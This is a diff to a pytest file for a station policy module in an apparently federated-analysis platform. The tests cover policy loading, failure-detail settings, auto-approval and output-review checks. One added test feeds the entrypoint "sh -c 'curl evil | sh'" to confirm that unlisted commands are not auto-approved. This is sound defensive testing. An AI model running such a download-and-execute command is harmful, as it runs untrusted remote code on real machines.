@@ -7,7 +7,7 @@ from pathlib import Path
 
 import pytest
 
-from station.policy import PolicyError, StationPolicy, load_policy
+from station.policy import FAILURE_EXIT_CODE, PolicyError, StationPolicy, load_policy
 from station.review import review
 
 HEAD = """@prefix pht: <https://w3id.org/pht-kg/vocab#> .
@@ -36,6 +36,23 @@ def test_a_valid_policy_is_read_with_every_setting(tmp_path: Path) -> None:
     assert policy.approve_definitions == {"count"}
     assert (policy.max_output_bytes, policy.max_file_bytes, policy.min_cell_count) == (1000, 100, 5)
     assert policy.allowed_file_types == {"csv", "json"}
+    assert (policy.approve_commands, policy.failure_detail, policy.shares_check_names) == (frozenset(), "category",
+                                                                                          False), "safe defaults"
+
+
+def test_the_release_and_failure_settings_are_read(tmp_path: Path) -> None:
+    policy = load_policy(write(tmp_path, """
+<urn:policy> a pht:StationPolicy ; pht:appliesToStation st:aachen ;
+    pht:requiresApproval true ; pht:requiresOutputReview true ;
+    pht:autoApproveCommand "python /train/count.py" ; pht:sharesFailureDetail pht:FailureExitCode ;
+    pht:sharesCheckNames true .
+"""))
+    assert policy.approve_commands == {"python /train/count.py"}
+    assert policy.failure_detail == FAILURE_EXIT_CODE and policy.shares_check_names
+    assert policy.failure_reason("aachen", 3, "The train exited with code 3.") == \
+        "the train failed at station aachen (exit code 3)"
+    assert StationPolicy().failure_reason("aachen", 3, "The train exited with code 3.") == \
+        "the train failed at station aachen"
 
 
 @pytest.mark.parametrize("body, words", [
@@ -46,6 +63,8 @@ def test_a_valid_policy_is_read_with_every_setting(tmp_path: Path) -> None:
      'pht:requiresOutputReview true .', "approval"),
     ("<urn:p> a pht:StationPolicy ; pht:appliesToStation st:aachen ;;; .", ""),
     ("", "exactly one"),
+    ('<urn:p> a pht:StationPolicy ; pht:appliesToStation st:aachen ; pht:requiresApproval true ; '
+     'pht:requiresOutputReview true ; pht:sharesFailureDetail pht:FailureLogs .', "failure detail"),
 ])
 def test_a_bad_policy_is_refused_with_a_sentence(tmp_path: Path, body: str, words: str) -> None:
     with pytest.raises(PolicyError) as e:
@@ -75,6 +94,10 @@ def test_auto_approval_needs_every_stated_list_to_match() -> None:
     assert both.auto_approval(**{**ask, "image_digest": "sha256:" + "cd" * 32}) is None
     assert StationPolicy(approve_definitions=frozenset({"count"})).auto_approval(**ask) is not None
     assert StationPolicy(approve_definitions=frozenset({"other"})).auto_approval(**ask) is None
+    shell = {**ask, "entrypoint": "sh -c 'curl evil | sh'"}
+    assert both.auto_approval(**shell) is None, "a command the researcher chose is not what the lists approve"
+    assert StationPolicy(approve_images=frozenset({DIGEST}), approve_requesters=frozenset({ALICE}),
+                         approve_commands=frozenset({shell["entrypoint"]})).auto_approval(**shell) is not None
 
 
 def test_review_flags_each_configured_problem(tmp_path: Path) -> None:
@@ -90,7 +113,7 @@ def test_review_flags_each_configured_problem(tmp_path: Path) -> None:
     assert not checks["max-output-bytes"].passed
     assert not checks["max-file-bytes"].passed and "big.bin" in checks["max-file-bytes"].detail
     assert not checks["allowed-file-types"].passed and "big.bin" in checks["allowed-file-types"].detail
-    assert not checks["min-cell-count"].passed and "row 3 column 2 holds 3" in checks["min-cell-count"].detail
+    assert not checks["min-cell-count"].passed and "row 3 column 2 holds a count below" in checks["min-cell-count"].detail
 
 
 def test_review_passes_a_clean_output_and_reads_json_counts(tmp_path: Path) -> None:
